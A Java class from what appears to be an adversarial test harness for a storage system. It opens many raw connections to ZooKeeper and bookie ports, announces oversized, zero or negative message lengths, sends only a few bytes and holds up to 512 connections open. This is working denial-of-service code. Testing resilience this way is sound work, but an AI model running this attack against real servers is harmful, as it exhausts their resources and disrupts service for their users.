package org.ecstore.tools.attack.attacker;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.SplittableRandom;
import org.ecstore.key.Bytes;
import org.ecstore.verify.door.RawClient;
import org.ecstore.wire.WireWriter;

/**
 * Connections to the ports of others, ZooKeeper's and the bookies', that announce how long a
 * message has to be, send next to nothing of it, and stay: what a server keeps free for a word
 * costs the one who gives it nothing.
 */
final class AnnouncedLengths implements Attacker, AutoCloseable {
  private static final int AT_ONCE = 32;

  /** As many as a server with a small heap must bear at once, and some more. */
  private static final int HELD_MAX = 512;

  private static final int BEGUN_BYTES_MAX = 16;
  private static final int MEBI = 1 << 20;

  /** Within what ZooKeeper takes, what a bookie takes, and beyond what either does. */
  private static final List<Integer> LENGTHS =
      List.of(MEBI - 1, MEBI, 5 * MEBI - 1, 5 * MEBI, 64 * MEBI, Integer.MAX_VALUE, 0, -1);

  /** Guarded by itself. */
  private final Deque<RawClient> held = new ArrayDeque<>();

  @Override
  public int strike(AttackedNode node, SplittableRandom random) throws IOException {
    InetSocketAddress port = node.others().get(random.nextInt(node.others().size()));
    int sent = 0;
    for (int i = 0; i < AT_ONCE; i++) {
      RawClient client;
      try {
        client = new RawClient(port);
      } catch (IOException refused) {
        // The port has no room, or its server does not listen there: only one does between servers.
        return sent;
      }
      hold(client);
      try {
        client.sendRaw(begun(random));
        sent++;
      } catch (IOException closed) {
        // It is let go of with the others.
      }
    }
    return sent;
  }

  private static Bytes begun(SplittableRandom random) {
    byte[] little = new byte[random.nextInt(BEGUN_BYTES_MAX + 1)];
    random.nextBytes(little);
    int length = LENGTHS.get(random.nextInt(LENGTHS.size()));
    return new WireWriter().i32(length).raw(little).toBytes();
  }

  private void hold(RawClient client) throws IOException {
    List<RawClient> oldest = new ArrayList<>();
    synchronized (held) {
      held.add(client);
      while (held.size() > HELD_MAX) {
        oldest.add(held.remove());
      }
    }
    for (RawClient each : oldest) {
      each.close();
    }
  }

  @Override
  public void close() throws IOException {
    synchronized (held) {
      for (RawClient each : held) {
        each.close();
      }
      held.clear();
    }
  }
}
